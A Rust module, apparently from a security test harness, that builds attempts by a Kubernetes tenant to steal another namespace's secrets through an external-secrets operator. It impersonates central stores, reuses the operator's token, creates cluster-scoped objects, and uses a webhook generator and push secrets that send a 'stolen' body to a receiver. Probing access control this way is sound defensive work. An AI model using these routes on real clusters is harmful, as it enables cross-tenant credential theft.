//! Stores that pretend to be central ones, and what belongs to the platform.

use credence_core::operator_api::{EXTERNAL_SECRETS_API, GENERATORS_API, PUSH_SECRETS_API};
use serde_json::json;

use super::{AttackContext, Attempt};
use crate::p08_access_control::call::{CORE, Call, EXTERNAL_SECRETS, GENERATORS, PUSH_SECRETS, collection};
use crate::p08_access_control::objective::Goal;
use crate::p08_access_control::objects::{self, CENTRAL, OWN};
use crate::p08_access_control::route::{Disguise, Impostor, PlatformKind, Route};

/// A store of the tenant's own that reads the source.
pub(super) fn own(context: &AttackContext<'_>, how: Impostor, goal: &Goal<'_>, name: &str) -> Option<Attempt> {
    let stores = context.of_mine(EXTERNAL_SECRETS, "secretstores");
    let (source, key) = (&goal.source.name, goal.key);
    let mut reads = objects::reading(OWN, name, source, key);
    let mut prepare = Vec::new();
    let provider = match how {
        Impostor::AccountOfTheSameName => {
            let account = &goal.store.kubernetes.as_ref()?.service_account()?.name;
            let account = objects::object("v1", "ServiceAccount", account, json!({}));
            prepare.push(Call::create(context.of_mine(CORE, "serviceaccounts"), account));
            objects::as_central(context.server, goal)?
        }
        Impostor::OperatorFile => {
            let kubeconfig = objects::kubeconfig(context.server, context.operator_token);
            let secret = objects::object("v1", "Secret", name, json!({ "stringData": { "kubeconfig": kubeconfig } }));
            prepare.push(Call::create(context.of_mine(CORE, "secrets"), secret));
            json!({ "kubernetes": {
                "remoteNamespace": goal.source.namespace, "authRef": { "name": name, "key": "kubeconfig" } } })
        }
        Impostor::OperatorLogin => {
            let login = json!({ "mountPath": "kubernetes", "role": "it" });
            json!({ "vault": { "server": context.receiver, "path": "it", "auth": { "kubernetes": login } } })
        }
        Impostor::ForeignAuthority => {
            reads = objects::reading(OWN, name, &context.private(), objects::VALUE);
            objects::with_authority(context.own_provider(), context.neighbour, &context.authority())
        }
    };
    // The operator would wait for the API server that it cannot reach under another name.
    let store = (how != Impostor::OperatorLogin).then(|| format!("{stores}/{name}"));
    let call = Call::create(stores, objects::store(OWN, name, provider));
    let then = Some(context.create_external_secret(name, reads));
    let attempt = Attempt::of_route(context, Route::OwnStore(how), goal, call, context.harmless_store(name));
    Some(Attempt { prepare, store, then, ..attempt.read_by(context, name) })
}

/// An object of a kind that belongs to the platform. What it reads is in the tenant's reach if it works.
pub(super) fn platform(
    context: &AttackContext<'_>,
    kind: PlatformKind,
    goal: &Goal<'_>,
    name: &str,
) -> Option<Attempt> {
    let selectors = json!([{ "matchLabels": { "kubernetes.io/metadata.name": context.mine } }]);
    let everywhere = |api: &str, resource: &str| collection(api, None, resource);
    let push = objects::pushing(goal, &context.private());
    let of_route = |call| Attempt::of_route(context, Route::Platform(kind), goal, call, None);
    Some(match kind {
        PlatformKind::ClusterExternalSecret => {
            let mut reads = objects::reading(goal.store.kind(), goal.store.object_name(), &goal.source.name, goal.key);
            reads["target"] = json!({ "name": name });
            let spec =
                json!({ "externalSecretName": name, "namespaceSelectors": selectors, "externalSecretSpec": reads });
            let object = objects::object(EXTERNAL_SECRETS_API, "ClusterExternalSecret", name, json!({ "spec": spec }));
            of_route(Call::create(everywhere(EXTERNAL_SECRETS, "clusterexternalsecrets"), object))
                .read_by(context, name)
        }
        PlatformKind::ClusterSecretStore => {
            let provider = objects::as_central(context.server, goal)?;
            let namespace = &goal.source.namespace;
            let provider = objects::with_authority(provider, namespace, "kube-root-ca.crt");
            let stores = everywhere(EXTERNAL_SECRETS, "clustersecretstores");
            let store = Some(format!("{stores}/{name}"));
            let reads = objects::reading(CENTRAL, name, &goal.source.name, goal.key);
            let then = Some(context.create_external_secret(name, reads));
            let call = Call::create(stores, objects::store(CENTRAL, name, provider));
            Attempt { store, then, ..of_route(call).read_by(context, name) }
        }
        PlatformKind::ClusterGenerator => {
            let body = super::templates::stolen(Disguise::Plain, goal);
            let spec = json!({ "kind": "Webhook", "generator": { "webhookSpec": objects::webhook(&context.receiver, &body) } });
            let object = objects::object(GENERATORS_API, "ClusterGenerator", name, json!({ "spec": spec }));
            let then = Some(context.create_external_secret(name, objects::generated("ClusterGenerator", name)));
            let call = Call::create(everywhere(GENERATORS, "clustergenerators"), object);
            Attempt { then, ..of_route(call).read_by(context, name) }
        }
        PlatformKind::PushSecret => {
            let object = objects::object(PUSH_SECRETS_API, "PushSecret", name, json!({ "spec": push }));
            pushed(context, of_route(Call::create(context.of_mine(PUSH_SECRETS, "pushsecrets"), object)), name)
        }
        PlatformKind::ClusterPushSecret => {
            let spec = json!({ "pushSecretSpec": push, "namespaceSelectors": selectors });
            let object = objects::object(PUSH_SECRETS_API, "ClusterPushSecret", name, json!({ "spec": spec }));
            let call = Call::create(everywhere(PUSH_SECRETS, "clusterpushsecrets"), object);
            pushed(context, of_route(call), name)
        }
    })
}

/// The same attempt, of which the operator says in a PushSecret of the tenant's namespace how it went.
fn pushed(context: &AttackContext<'_>, mut attempt: Attempt, name: &str) -> Attempt {
    attempt.seen.object = Some(format!("{}/{name}", context.of_mine(PUSH_SECRETS, "pushsecrets")));
    attempt
}
